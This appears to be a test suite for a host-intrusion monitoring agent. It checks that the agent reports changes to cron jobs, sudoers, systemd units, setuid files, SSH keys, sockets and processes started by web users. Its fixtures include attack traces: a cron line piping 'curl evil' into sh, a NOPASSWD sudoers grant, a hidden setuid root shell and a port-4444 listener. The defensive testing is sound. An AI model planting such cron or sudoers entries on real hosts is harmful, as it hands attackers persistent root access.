import { chmodSync, mkdirSync, mkdtempSync, renameSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import type { SecurityEvent } from '@parapet/core'
import * as fc from 'fast-check'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { readConfig } from '../config/config.js'
import type { Channel } from '../pipeline/channel.js'
import { compareFacts, type Facts } from './fact.js'
import { keyFingerprints } from './files.js'
import { readSockets } from './sockets.js'
import { type FactInput, watchFacts } from './watch-facts.js'

fc.configureGlobal({ seed: 20_261_122 })

let root = ''
let now = Date.UTC(2026, 10, 22)
let told: SecurityEvent[] = []
let keys: string[] = []
beforeEach(() => {
  root = mkdtempSync(join(tmpdir(), 'parapet-facts-'))
  told = []
  keys = []
  put('/etc/passwd', 'root:x:0:0::/root:/bin/sh\nwww-data:x:33:33::/var/www:/bin/false\nann:x:1000:1000::/home/ann:/bin/sh\n')
})
afterEach(() => rmSync(root, { recursive: true, force: true }))

const put = (path: string, text: string, mode = 0o644): void => {
  mkdirSync(dirname(join(root, path)), { recursive: true })
  writeFileSync(join(root, path), text)
  chmodSync(join(root, path), mode)
}
const start = (saved: Parameters<typeof watchFacts>[1]['saved'] = { facts: {}, factCount: 0 }): FactInput => {
  const open = (name: string): Channel => ({
    name,
    counts: { lines: 0, events: 0, unknown: 0, cut: 0, dropped: 0, droppedWhy: null, lastEventAt: null, behindBytes: null, error: null },
    lines: () => undefined,
    events: (events) => {
      for (const { event, key } of events) {
        told.push(event)
        keys.push(key)
      }
    },
    flush: () => undefined,
    health: () => {
      throw new Error('not asked')
    },
  })
  return watchFacts(readConfig(`facts: {root: ${root}, setuidPaths: [/usr, /tmp]}`, 'x').facts, {
    pipeline: { open, hasRoom: () => true },
    clock: () => now++,
    saved,
  })
}
const said = (): string[] =>
  told.map((event) => `${event['event.dataset']} ${event['event.action']} ${String(event['file.path'] ?? event['destination.port'] ?? '')}`)

describe('files of a host', () => {
  it('are learnt in silence, and each later change is told once with what the file is now', async () => {
    put('/etc/cron.d/backup', '0 3 * * * root /usr/bin/backup\n')
    put('/etc/ssh/sshd_config', 'PermitRootLogin no\n')
    const facts = start()
    await facts.lookNow()
    expect(told).toEqual([])
    put('/etc/cron.d/miner', '* * * * * root curl evil | sh\n', 0o600)
    put('/etc/ssh/sshd_config', 'PermitRootLogin yes\n')
    put('/etc/systemd/system/evil.service', '[Service]\nExecStart=/tmp/x\n')
    unlinkSync(join(root, '/etc/cron.d/backup'))
    await facts.lookNow()
    await facts.lookNow()
    expect(said().toSorted()).toEqual([
      'host.cron added /etc/cron.d/miner',
      'host.cron removed /etc/cron.d/backup',
      'host.file changed /etc/ssh/sshd_config',
      'host.unit added /etc/systemd/system/evil.service',
    ])
    const miner = told.find((event) => event['file.path'] === '/etc/cron.d/miner')
    expect(miner).toMatchObject({
      'event.category': 'configuration',
      'event.outcome': 'success',
      'file.mode': '0600',
      'file.owner': 'root',
    })
    expect(miner?.['file.hash.sha256']).toMatch(/^[0-9a-f]{64}$/)
    expect(told.find((event) => event['file.path'] === '/etc/ssh/sshd_config')?.['event.category']).toBe('file')
  })

  it('are told also when only their mode changed, or when one was put in the place of another', async () => {
    put('/etc/sudoers', 'root ALL=(ALL) ALL\n', 0o440)
    const facts = start()
    await facts.lookNow()
    chmodSync(join(root, '/etc/sudoers'), 0o666)
    await facts.lookNow()
    put('/etc/sudoers.new', 'ann ALL=(ALL) NOPASSWD: ALL\n', 0o666)
    renameSync(join(root, '/etc/sudoers.new'), join(root, '/etc/sudoers'))
    await facts.lookNow()
    expect(told.map((event) => [event['event.action'], event['file.path'], event['file.mode']])).toEqual([
      ['changed', '/etc/sudoers', '0666'],
      ['changed', '/etc/sudoers', '0666'],
    ])
    expect(told[0]?.['file.hash.sha256']).not.toBe(told[1]?.['file.hash.sha256'])
  })

  it('that change to and fro make events of their own each time, also over a restart; what changed meanwhile is told at the start', async () => {
    put('/etc/hosts', 'a\n')
    let facts = start()
    await facts.lookNow()
    for (const text of ['b\n', 'a\n', 'b\n']) {
      put('/etc/hosts', text)
      await facts.lookNow()
    }
    const saved = JSON.parse(JSON.stringify(facts.save())) as ReturnType<typeof facts.save>
    put('/etc/hosts', 'a\n')
    facts = start(saved)
    await facts.lookNow()
    expect(said()).toEqual(Array.from({ length: 4 }, () => 'host.file changed /etc/hosts'))
    expect(new Set(keys).size).toBe(4)
  })

  it('that are many are walked beside all other looks, and an agent that stops waits for no walk', async () => {
    for (let i = 0; i < 4_000; i++) put(`/usr/share/${i % 20}/${i}`, '')
    put('/usr/bin/su', '', 0o4755)
    const facts = start()
    void facts.start()
    await new Promise((resolve) => setTimeout(resolve, 50))
    expect(Object.keys(facts.save().facts)).toEqual(expect.arrayContaining(['host.listener', 'host.cron', 'host.unit']))
    const began = performance.now()
    await facts.stop()
    // the whole of it takes 400 ms in pauses alone
    expect(performance.now() - began).toBeLessThan(200)
    // half a walk is no knowledge: what it did not reach would be news the next time
    expect(facts.save().facts).not.toHaveProperty('host.setuid')
    const again = start(facts.save())
    await again.lookNow()
    expect(Object.keys(again.save().facts['host.setuid'] ?? {})).toEqual(['/usr/bin/su'])
  })

  it('with setuid or setgid are found below the named folders, links are not followed', async () => {
    put('/usr/bin/sudo', 'x', 0o4755)
    const facts = start()
    await facts.lookNow()
    put('/tmp/.hidden/rootshell', 'x', 0o4755)
    put('/usr/local/games', 'x', 0o2755)
    put('/opt/elsewhere', 'x', 0o4755)
    symlinkSync(join(root, '/opt'), join(root, '/usr/opt'))
    await facts.lookNow()
    expect(said().toSorted()).toEqual(['host.setuid added /tmp/.hidden/rootshell', 'host.setuid added /usr/local/games'])
    expect(told.map((event) => String(event['file.mode'])).toSorted((a, b) => a.localeCompare(b))).toEqual(['2755', '4755'])
  })

  it('hold SSH keys, told one by one', async () => {
    const key = (n: number): string => `ssh-ed25519 ${Buffer.alloc(40, n).toString('base64')} ann@laptop`
    put('/home/ann/.ssh/authorized_keys', `# mine\n${key(1)}\n`)
    const facts = start()
    await facts.lookNow()
    put('/home/ann/.ssh/authorized_keys', `# mine\n${key(1)}\ncommand="/bin/x y",no-pty ${key(2)}\n`)
    await facts.lookNow()
    put('/home/ann/.ssh/authorized_keys', `${key(2)}\n`)
    await facts.lookNow()
    expect(told.map((event) => [event['event.dataset'], event['event.action'], event['ssh.key.fingerprint']])).toEqual([
      ['host.ssh_key', 'added', keyFingerprints(key(2))[0]],
      ['host.ssh_key', 'removed', keyFingerprints(key(1))[0]],
    ])
  })
})

describe('sockets of a host', () => {
  const HEAD = '  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n'
  const line = (local: string, remote: string, state: string, uid = 0, inode = 1): string =>
    `   0: ${local} ${remote} ${state} 00000000:00000000 00:00000000 00000000 ${uid}        0 ${inode} 1 0000000000000000 100 0 0 10 0\n`

  it('are read from the tables of the kernel, addresses of both kinds', () => {
    const text =
      HEAD +
      line('0100007F:1F90', '00000000:0000', '0A') +
      line('00000000000000000000000001000000:0016', '00000000000000000000000000000000:0000', '0A')
    expect(readSockets(text, 'tcp').map(({ local }) => local)).toEqual([
      { address: '127.0.0.1', port: 8_080 },
      { address: '::1', port: 22 },
    ])
  })

  it('that listen are told when they come and go, and by whom', async () => {
    put('/proc/net/tcp', HEAD + line('00000000:0016', '00000000:0000', '0A', 0, 7))
    const facts = start()
    await facts.lookNow()
    put('/proc/net/tcp', HEAD + line('00000000:0016', '00000000:0000', '0A', 0, 7) + line('00000000:115C', '00000000:0000', '0A', 33, 8))
    mkdirSync(join(root, 'proc/4711/fd'), { recursive: true })
    put('/proc/4711/stat', `4711 (a (strange) name) S 1 1 1 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 4242 0 0`)
    put('/proc/4711/status', 'Name:\tx\nUid:\t33\t33\t33\t33\n')
    symlinkSync('socket:[8]', join(root, 'proc/4711/fd/3'))
    symlinkSync('/tmp/x (deleted)', join(root, 'proc/4711/exe'))
    await facts.lookNow()
    const opened = told.find((event) => event['event.dataset'] === 'host.listener')
    expect(opened).toMatchObject({
      'event.action': 'listener-opened',
      'event.category': 'network',
      'destination.port': 4_444,
      'network.transport': 'tcp',
      'process.name': 'a (strange) name',
      'process.executable': '/tmp/x (deleted)',
      'user.name': 'www-data',
    })
    put('/proc/net/tcp', HEAD + line('00000000:0016', '00000000:0000', '0A', 0, 7))
    await facts.lookNow()
    expect(said().filter((text) => text.startsWith('host.listener'))).toEqual([
      'host.listener listener-opened 4444',
      'host.listener listener-closed 4444',
    ])
  })

  it('that go out are told by their destination, once, and not what comes in or stays on the host', async () => {
    put('/proc/net/tcp', HEAD)
    const facts = start()
    await facts.lookNow()
    const out = line('0A00000A:D431', '097100CB:01BB', '01', 33)
    const inward = line('0A00000A:0016', '097100CB:C001', '01')
    put('/proc/net/tcp', HEAD + line('00000000:0016', '00000000:0000', '0A') + out + inward + line('0100007F:D432', '0100007F:1F90', '01'))
    await facts.lookNow()
    put('/proc/net/tcp', HEAD)
    await facts.lookNow()
    put('/proc/net/tcp', HEAD + out)
    await facts.lookNow()
    expect(told.filter((event) => event['event.dataset'] === 'host.connection')).toMatchObject([
      { 'event.action': 'outbound-destination-new', 'destination.ip': '203.0.113.9', 'destination.port': 443, 'user.name': 'www-data' },
    ])
  })

  it('make no trouble, whatever the tables hold', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary', maxLength: 200 }), { maxLength: 5 }), (lines) => {
        expect(Array.isArray(readSockets(`head\n${lines.join('\n')}`, 'tcp'))).toBe(true)
      }),
    )
  })
})

describe('processes of web users', () => {
  it('are told with parent and command when they start, and not those that were there', async () => {
    const process = (pid: number, name: string, uid: number, parent: number, command = name): void => {
      put(`/proc/${pid}/stat`, `${pid} (${name}) S ${parent} 1 1 0 -1 0 0 0 0 0 0 0 0 0 20 0 1 0 ${pid * 7} 0 0`)
      put(`/proc/${pid}/status`, `Name:\t${name}\nUid:\t${uid}\t${uid}\t${uid}\t${uid}\n`)
      put(`/proc/${pid}/cmdline`, command.replaceAll(' ', '\0'))
    }
    process(100, 'nginx', 33, 1)
    process(101, 'bash', 1_000, 1)
    const facts = start()
    await facts.lookNow()
    process(102, 'sh', 33, 100, `sh -c id ${'x'.repeat(5_000)}`)
    process(103, 'bash', 1_000, 1)
    await facts.lookNow()
    await facts.lookNow()
    const started = told.filter((event) => event['event.dataset'] === 'host.process')
    expect(started).toMatchObject([
      {
        'event.action': 'process-started',
        'user.name': 'www-data',
        'process.name': 'sh',
        'process.parent.name': 'nginx',
        'process.pid': 102,
      },
    ])
    expect(String(started[0]?.['process.command_line'])).toMatch(/^sh -c id x/)
    expect(String(started[0]?.['process.command_line']).length).toBeLessThanOrEqual(2_048)
  })
})

describe('comparing facts', () => {
  const actions = { added: 'added', changed: 'changed', removed: 'removed' }
  const factsOf = (entries: Readonly<Record<string, number>>): Facts => new Map(Object.entries(entries).map(([key, n]) => [key, { n }]))

  it('gives what turns the one into the other', () => {
    const some = fc.dictionary(fc.constantFrom('a', 'b', 'c', '__proto__'), fc.integer({ min: 0, max: 3 }))
    fc.assert(
      fc.property(some, some, (one, two) => {
        const first = compareFacts({ actions }, undefined, factsOf(one))
        expect(first.changes).toEqual([])
        const { changes } = compareFacts({ actions }, first.after, factsOf(two))
        const result = new Map(factsOf(one))
        for (const { action, key, fields } of changes) {
          if (action === 'removed') result.delete(key)
          else result.set(key, fields)
        }
        expect(new Map(result)).toEqual(factsOf(two))
      }),
    )
  })

  it('remembers no more than it may', () => {
    let after: Readonly<Record<string, string>> | undefined
    for (let i = 0; i < 100; i++) ({ after } = compareFacts({ actions, remembers: 10 }, after, factsOf({ [`k${i}`]: 1 })))
    expect(Object.keys(after ?? {})).toHaveLength(10)
    expect(Object.keys(after ?? {})).toContain('k99')
  })
})
